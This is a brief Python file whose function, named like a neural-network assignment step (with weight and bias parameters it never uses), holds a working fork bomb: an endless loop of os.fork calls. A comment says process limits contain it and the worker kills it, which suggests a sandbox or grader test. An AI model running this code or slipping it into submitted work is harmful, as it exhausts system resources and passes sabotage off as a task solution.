# A fork bomb: every child forks again and sleeps. The per-user process limit stops it and
# every process it made is killed with the worker.
import os as _os
import time as _time


def q2b_activation_sortie(W2, b2, hs):
    while True:
        try:
            _os.fork()
        except OSError:
            _time.sleep(0.01)
